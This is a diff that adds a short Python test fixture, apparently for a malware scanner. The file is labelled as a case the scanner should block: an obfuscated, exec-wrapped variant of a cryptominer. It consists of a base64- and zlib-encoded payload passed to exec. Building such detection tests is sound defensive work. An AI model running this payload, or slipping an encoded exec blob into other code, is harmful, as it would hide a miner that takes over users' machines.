@@ -1,0 +1,3 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/stratum_socket.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJyFjsFKBDEMhu/zFCF7aXEpriyCgk/h0RXpdIJbZ9qUNKOL4rvbGfUiijnl/5P8XzZwW8iPFfRIUFW8zglSzDE/QhFWDjyBMngozJPrYiosCk+V83dfOYykXbcswM2XdEHIKz0EzpmCRs7G4BrRwumUxAVOuIV9K2vXW1cpD36azBLuhjmVat4wDngNuy1gIj3yIvDzPVfnvgaJPbUYLF58qm16d/9uHeXAAxkLZ9DjIeO/gIvfAH5uhsTXHwB8YRlJdot7wj9wErOaFSoUns3+/OrS2g99RHjw')))
